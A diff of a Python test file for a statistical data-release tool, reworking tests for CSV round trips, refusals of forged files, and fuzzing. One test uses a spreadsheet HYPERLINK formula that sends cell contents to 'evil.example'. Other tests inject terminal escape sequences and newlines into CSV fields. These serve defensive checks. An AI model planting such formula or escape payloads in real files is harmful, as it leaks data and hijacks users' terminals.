@@ -4,7 +4,7 @@ import csv
 import hashlib
 import io
 import json
-import os
+import shutil
 from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -16,13 +16,7 @@ import typer
 from cases.release_cases import clustered
 from federation.mutations import (
     content_of,
-    edit_csv,
-    edit_tree,
-    extend,
-    flip_bits,
-    pick,
-    splice,
-    truncate,
+    mutate_folder,
 )
 from typer.testing import CliRunner
 
@@ -33,7 +27,6 @@ from silomix.messages.container import HEAD
 from silomix.messages.csv_tables import LARGEST_FILE, MOST_LINES, read_release_arrays
 from silomix.messages.door import check_reply
 from silomix.messages.folder import read, read_release, release_files, write_release
-from silomix.messages.release_notes import explain
 from silomix.model.schema import Schema, Shard, Variable
 from silomix.model.table import infer_schema
 from silomix.posterior.provenance import fingerprint
@@ -151,13 +144,15 @@ class TestRoundTrip:
         write_release(release, folder, schema)
         assert fingerprint(read(folder, study=study)[1]) == fingerprint(release)
 
-    def test_names_of_all_kinds(self, tmp_path, seed):
-        names = ['a "quoted", $name$', "two, and 数", "=1+1", "plain"]
-        schema = Schema((Variable(names[0], (names[1], names[2])), Variable(names[3], ("a", "b"))))
-        self.check_round_trip(tmp_path / "r", schema, seed)
+    def test_wide_tables_go_on_in_another_file(self, tmp_path, seed):
+        wide = make_case(seed, OPEN, "summary", (20, 20), (2,) * 1300, draws=10)
+        assert "profile_2.csv" in wide.files
+        put(tmp_path / "w", wide.files)
+        assert fingerprint(arrive(tmp_path / "w", wide.study)) == fingerprint(wide.release)
+        check_airlock(wide.files)
 
     def test_names_that_are_formulas_are_text_to_a_spreadsheet(self, tmp_path, seed):
-        levels = ("+ve", "-1", "a;=1+1"), ("'=1+1", "+", "(-2, -1]")
+        levels = ("+ve", "-1", "a;=1+1"), ("'=1+1", "+", "(-2, -1]", 'a "quoted", $name$, 数')
         link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
         schema = Schema((Variable(link, levels[0]), Variable("@SUM(1)", levels[1])))
         self.check_round_trip(tmp_path / "r", schema, seed)
@@ -174,39 +169,6 @@ class TestRoundTrip:
         written = f"'{link}"
         assert {written, f"{written}=+ve", f"{written}=a;'=1+1"} <= cells
 
-    def test_how_chains_agreed_and_whether_components_ran_out(self, tmp_path, summary):
-        said = replace(summary.release.diagnostics, agreement=0.87, full=0.25)
-        release = replace(summary.release, diagnostics=said)
-        write_release(release, tmp_path / "r", summary.study.table_schema)
-        assert arrive(tmp_path / "r", summary.study).diagnostics == said
-
-    def test_not_known_diagnostics(self, tmp_path, summary):
-        unknown = replace(
-            summary.release.diagnostics, rhat={"occupied": np.nan}, ess={"occupied": np.inf}
-        )
-        release = replace(summary.release, diagnostics=unknown)
-        write_release(release, tmp_path / "r", summary.study.table_schema)
-        back = arrive(tmp_path / "r", summary.study)
-        assert np.isnan(back.diagnostics.rhat["occupied"])
-        assert back.diagnostics.ess["occupied"] == np.inf
-
-    def test_long_tables_go_on_in_another_file(self, tmp_path, seed):
-        case = make_case(seed, OPEN, "draws", (60, 50), (2, 3), draws=2600)
-        write_release(case.release, tmp_path / "r", case.study.table_schema)
-        assert (tmp_path / "r" / "probabilities_2.csv").exists()
-        back = arrive(tmp_path / "r", case.study)
-        assert fingerprint(back) == fingerprint(case.release)
-        wide = make_case(seed, OPEN, "summary", (20, 20), (2,) * 1300, draws=10)
-        assert "profile_2.csv" in wide.files
-        put(tmp_path / "w", wide.files)
-        assert fingerprint(arrive(tmp_path / "w", wide.study)) == fingerprint(wide.release)
-        check_airlock(wide.files)
-        check_airlock(case.files)
-
-    def test_without_matplotlib(self, summary):
-        files = release_files(summary.release, summary.study.table_schema)
-        assert files.keys() == summary.files.keys() - {"profile.png"}
-
 
 def check_airlock(files):
     for name, content in files.items():
@@ -217,18 +179,18 @@ def check_airlock(files):
 
 
 class TestWriting:
-    def test_an_airlock_takes_it(self, summary, drawn):
+    def test_an_airlock_takes_it_and_details_of_checks_stay_inside(self, summary, drawn):
         check_airlock(summary.files)
         check_airlock(drawn.files)
-
-    def test_whole_or_not_at_all(self, tmp_path, summary, monkeypatch):
-        def fail(*_):
-            raise OSError(28, "No space left on device")
-
-        monkeypatch.setattr(os, "fsync", fail)
-        with pytest.raises(FileError, match="cannot be written: No space left"):
-            write_release(summary.release, tmp_path / "out", summary.study.table_schema)
-        assert list(tmp_path.iterdir()) == []
+        assert "203" not in summary.files["checks.csv"].decode()
+        for case, words in (
+            (summary, ["to the nearest 5", "not differential privacy", "small clusters folded"]),
+            (drawn, ["usually to within one", "the policy has no rule"]),
+        ):
+            page = " ".join(case.files["README.txt"].decode().split())
+            assert all(word in page for word in words)
+            assert "203 to" not in page
+            assert "clusters of 7 rows" not in page
 
     def test_what_is_in_the_way(self, tmp_path, summary):
         schema = summary.study.table_schema
@@ -273,25 +235,8 @@ class TestScan:
         assert unsaid["count"].isna().all()
         assert (unsaid.groupby(["cluster", "variable"])["mean"].nunique() == 1).all()
 
-    def test_details_of_checks_stay_inside(self, summary):
-        text = b"".join(c for n, c in summary.files.items() if not n.endswith(".png")).decode()
-        assert "203" not in summary.files["checks.csv"].decode()
-        assert "203 to" not in text
-        assert "clusters of 7 rows" not in text
 
-    def test_the_page_says_what_could_be_inferred(self, summary, drawn):
-        page = " ".join(summary.files["README.txt"].decode().split())
-        assert "to the nearest 5" in page
-        assert "not differential privacy" in page
-        assert "polish): never" in page
-        assert "small clusters folded" in page
-        other = " ".join(drawn.files["README.txt"].decode().split())
-        assert "usually to within one" in other
-        assert "the policy has no rule" in other
-        assert explain(summary.release, summary.study.table_schema).keys() >= {"What this is"}
-
-
-def cells(files, name="profile.csv"):
+def cells(files, name):
     return list(csv.reader(io.StringIO(files[name].decode())))
 
 
@@ -322,34 +267,6 @@ class TestRefusals:
                 put(tmp_path / "r", forge(summary.files, {"profile.csv": content})), summary.study
             )
 
-    @pytest.mark.parametrize("name", [b"v\x1b[2J", b'"v\nw"', "v\u2028".encode()])
-    def test_names_that_a_screen_would_obey(self, tmp_path, summary, name):
-        content = summary.files["profile.csv"].replace(b",v0,", b"," + name + b",")
-        self.refused(tmp_path, summary, forge(summary.files, {"profile.csv": content}))
-
-    @pytest.mark.parametrize("name", ["README.txt", "profile.csv", "profile.png", "checks.csv"])
-    def test_a_changed_or_missing_file(self, tmp_path, summary, name):
-        changed = summary.files | {name: summary.files[name] + b" "}
-        self.refused(tmp_path, summary, changed, f"{name}' was changed after")
-        (tmp_path / "r" / name).unlink()
-        missing = {key: content for key, content in summary.files.items() if key != name}
-        self.refused(tmp_path, summary, missing, f"{name}' is missing")
-
-    def test_things_that_do_not_belong(self, tmp_path, summary, drawn):
-        self.refused(tmp_path, summary, summary.files | {"rows.csv": b"1"}, "no part of this")
-        self.refused(tmp_path, summary, forge(summary.files, {"rows.csv": b"1"}), "rows.csv")
-        (tmp_path / "r" / "rows.csv").unlink()
-        draws = {name: drawn.files[name] for name in ("weights.csv", "probabilities.csv")}
-        self.refused(tmp_path, summary, forge(summary.files, draws))
-
-    def test_links_are_not_followed(self, tmp_path, summary):
-        folder = put(tmp_path / "r", summary.files)
-        for name in ("profile.csv", HEAD):
-            (folder / name).rename(tmp_path / name)
-            (folder / name).symlink_to(tmp_path / name)
-            with pytest.raises(MessageError, match="is no file"):
-                read_release(folder)
-
     @pytest.mark.parametrize(
         "fields",
         [
@@ -368,12 +285,6 @@ class TestRefusals:
         self.refused(tmp_path, summary, forge(summary.files, **fields))
 
     @pytest.mark.parametrize(
-        "content", [b"", b"{", b"[]", b"\xff", b"[" * 100_000, b"1" * 10_000, b'{"\\ud800": 1}']
-    )
-    def test_no_head(self, tmp_path, summary, content):
-        self.refused(tmp_path, summary, summary.files | {HEAD: content})
-
-    @pytest.mark.parametrize(
         ("name", "old", "new"),
         [
             ("cluster_sizes.csv", b"\n0,", b"\n1,"),
@@ -384,6 +295,8 @@ class TestRefusals:
             ("profile.csv", b"v0,level 1", b"v0,level 0"),
             ("profile.csv", b"mean,conc", b"mean,spread,conc"),
             ("profile.csv", b"cluster,variable", b'cluster,"variable'),
+            ("profile.csv", b",v0,", b",v\x1b[2J,"),
+            ("profile.csv", b",v0,", b',"v\nw",'),
             ("checks.csv", b",10,", b",ten,"),
             ("checks.csv", b",10,", b",11,"),
             ("checks.csv", b",applied\n", b",applied,\n"),
@@ -395,23 +308,27 @@ class TestRefusals:
         assert content != summary.files[name]
         self.refused(tmp_path, summary, forge(summary.files, {name: content}))
 
-    @pytest.mark.parametrize("column", [6, 7, 8])
-    @pytest.mark.parametrize("value", ["nan", "1e999", "1_0", "-0.1", "", "x"])
-    def test_a_number_that_cannot_be(self, tmp_path, summary, column, value):
-        rows = cells(summary.files)
-        rows[1][column] = value
-        self.refused(tmp_path, summary, forge(summary.files, {"profile.csv": as_csv(rows)}))
-
-    @pytest.mark.parametrize("value", ["-1e-9", "-3.0", "1e300"])
-    def test_a_concentration_that_cannot_be(self, tmp_path, summary, value):
-        rows = cells(summary.files)
-        for row in [row for row in rows[1:] if row[:2] == rows[1][:2]]:
-            row[7] = value
-        self.refused(tmp_path, summary, forge(summary.files, {"profile.csv": as_csv(rows)}))
-
-    def test_rows_that_clusters_cannot_share(self, tmp_path, summary):
-        content = as_csv(cells(summary.files)[:-1])
-        self.refused(tmp_path, summary, forge(summary.files, {"profile.csv": content}))
+    @pytest.mark.parametrize(
+        ("column", "values"),
+        [
+            ("mean", ["nan", "1e999", "1_0", "-0.1", ""]),
+            ("concentration", ["nan", "-3.0", "1e300", ""]),
+            ("count", ["nan", "-0.1", "x"]),
+            (None, [None]),
+        ],
+    )
+    def test_a_number_that_cannot_be(self, tmp_path, summary, column, values):
+        """In the first line; a concentration is in all lines of its variable."""
+        for value in values:
+            head, *rows = csv.reader(io.StringIO(summary.files["profile.csv"].decode()))
+            if column is None:
+                rows.pop()
+            for row in [row for row in rows if column and row[:2] == rows[0][:2]]:
+                if column == "concentration" or row is rows[0]:
+                    row[head.index(column)] = value
+            self.refused(
+                tmp_path, summary, forge(summary.files, {"profile.csv": as_csv([head, *rows])})
+            )
 
     def test_what_its_own_policy_forbids(self, tmp_path, seed, drawn):
         strict = echo(OPEN.model_copy(update={"tiers": ("summary",)}))
@@ -537,25 +454,6 @@ class TestCommands:
         assert "message.json is missing" in " ".join(damaged.stderr.split())
 
 
-def mutate(rng, files):
-    """Change a file, sealed again or not: bits, cells, or what the head says."""
-    name = pick(rng, list(files))
-    others, kind = list(files.values()), rng.integers(3)
-    if kind == 0 or name.endswith((".png", ".txt")):
-        change = pick(rng, [flip_bits, truncate, extend, splice])
-        return files | {name: change(files[name], others, rng)}
-    if name == HEAD:
-        document = json.loads(files[HEAD])
-        edit_tree(document, rng)
-        head = json.dumps(document).encode("utf-8", "surrogatepass")
-        try:
-            return forge(files | {HEAD: head}) if kind == 1 else files | {HEAD: head}
-        except Exception:
-            return files | {HEAD: head}
-    text = edit_csv(files[name].decode(), rng).encode("utf-8", "surrogatepass")
-    return forge(files, {name: text})
-
-
 def check_sane(release, study):
     """What is accepted is a release that the rest may rely on."""
     offsets = study.table_schema.offsets
@@ -569,35 +467,25 @@ def check_sane(release, study):
     assert Policy(**release.policy)
 
 
-def fuzz(folder, case, rng, times):
-    put(folder, case.files)
-    refused = 0
-    for _ in range(times):
-        files = mutate(rng, case.files)
-        changed = [name for name in files if files[name] != case.files.get(name)]
-        for name in changed:
-            (folder / name).write_bytes(files[name])
-        try:
-            release = arrive(folder, case.study)
-        except MessageError:
-            refused += 1
-        else:
-            check_sane(release, case.study)
-        for name in changed:
-            (folder / name).write_bytes(case.files[name])
-    assert fingerprint(arrive(folder, case.study)) == fingerprint(case.release)
-    assert refused > 0.7 * times
-
-
 class TestFuzz:
-    def test_mutations_are_refused_or_harmless(self, tmp_path, summary, drawn, seed):
+    def fuzz(self, folder, case, rng, times):
+        good, wrong, refused = put(folder / "good", case.files), folder / "wrong", 0
+        for _ in range(times):
+            shutil.copytree(good, wrong)
+            mutate_folder(wrong, [good], rng)
+            try:
+                check_sane(arrive(wrong, case.study), case.study)
+            except MessageError:
+                refused += 1
+            shutil.rmtree(wrong)
+        assert refused > 0.7 * times
+
+    def test_mutations_are_refused_or_harmless(self, tmp_path, summary, seed):
         rng = np.random.default_rng([seed, 4])
-        fuzz(tmp_path / "summary", summary, rng, 300)
-        fuzz(tmp_path / "draws", drawn, rng, 60)
+        self.fuzz(tmp_path, summary, rng, 100)
 
     @pytest.mark.slow
     @pytest.mark.parametrize("block", range(10), ids="block{}-".format)
     def test_a_thousand(self, tmp_path, summary, drawn, seed, block):
         rng = np.random.default_rng([seed, 5, block])
-        fuzz(tmp_path / "summary", summary, rng, 800)
-        fuzz(tmp_path / "draws", drawn, rng, 200)
+        self.fuzz(tmp_path, drawn if block % 2 else summary, rng, 1000)
